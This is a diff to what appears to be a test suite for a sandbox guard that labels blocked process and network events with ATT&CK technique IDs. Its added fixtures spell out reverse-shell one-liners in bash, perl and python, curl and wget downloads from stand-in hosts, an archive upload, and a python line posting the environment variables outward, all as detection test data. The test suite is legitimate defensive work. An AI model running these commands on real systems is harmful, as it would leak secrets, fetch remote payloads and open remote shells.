@@ -215,6 +215,22 @@ ROME.push(
   ['bash behind a refused connection (/dev/tcp)', cases(processSockets(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'shell-opened-connection', 'T1059.004'],
   ['python dup2 one-liner behind a refused connection', cases(processSockets(PY_RSH, { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-shell-wiring', 'T1059.004'],
   ['a step of pure computation on a loaded host (0.5 core used, 0.5 waited for)', cases(stepUsage({ cores: 0.5, demandCores: 0.97 })), 'cpu-pure-step', 'T1496'],
+  ['curl -o of a file from a refused host', cases(processSockets(['curl', '-s', '-m', '5', '-o', '/tmp/helper', 'http://dl.example.test/helper'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-download', 'T1105'],
+  ['wget from a raw address, refused', cases(processSockets(['wget', '-q', '-T', '3', '-O', '/tmp/r', 'http://203.0.113.9:8080/r'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-download', 'T1105'],
+  ['curl -T of an archive to a refused host', cases(processSockets(['curl', '-s', '-T', '/tmp/ws.tgz', 'http://drop.example.test/upload'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-upload', 'T1048'],
+  ['python posting the environment, refused', cases(processSockets(['python3', '-c', 'import os,urllib.request as u\nu.urlopen("http://c.example.test/x", data=str(dict(os.environ)).encode())'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })), 'refused-upload', 'T1048'],
+  [
+    'perl script written by its step, refused',
+    cases(processSockets(['perl', 'setup.pl'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'timeout 5 perl setup.pl\nbash -c printf \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");\' > setup.pl && timeout 5 perl setup.pl' })),
+    'refused-script-shell-wiring',
+    'T1059',
+  ],
+  [
+    'python script written by its step, refused',
+    cases(processSockets(['python3', 'helper.py'], { via: 'denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'bash -c printf \'import socket,subprocess\\ns=socket.create_connection(("203.0.113.9",443))\\nsubprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)\' > helper.py && python3 helper.py' })),
+    'refused-shell-wiring-python',
+    'T1059.006',
+  ],
   ['a type check that kept a core busy (finding)', cases(stepUsage({ peakMemoryBytes: 450e6, userShare: 0.96 })), 'cpu-sustained-step', 'T1496'],
 );
 
@@ -268,6 +284,8 @@ const BENIGN: [string, GuardEvent[]][] = [
   ['tsc --noEmit on a big project: one node process, 450 MiB', [stepUsage({ wallMs: 40_000, execs: 3, userShare: 0.96, peakMemoryBytes: 450e6 })]],
   ['make: a compiler per file', [stepUsage({ wallMs: 20_000, execs: 120, userShare: 0.82, peakMemoryBytes: 80e6 })]],
   ['a test suite in one process that reads and writes files', [stepUsage({ wallMs: 12_000, execs: 2, userShare: 0.88, peakMemoryBytes: 60e6 })]],
+  ['curl of a docs page from a host not on the allowlist, printed (finding only)', [processSockets(['curl', '-sSL', 'https://docs.example.test/guide'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'] })]],
+  ['npm install, one registry host refused', [processSockets(['node', '/usr/bin/npm', 'install'], { via: 'proxy-denied', stdio: ['pipe', 'pipe', 'pipe'], ancestorsText: 'bash -c npm install' })]],
   ['a short step, busy but brief', [stepUsage({ wallMs: 3000 })]],
   ['a step that mostly waited (sleep, network)', [stepUsage({ cores: 0.05, demandCores: 0.06 })]],
   ['gcc', [processStart(['gcc', '-O2', '-Wall', '-o', 'app', 'main.c']), processStart(['./app'], { exe: '/workspace/app' })]],
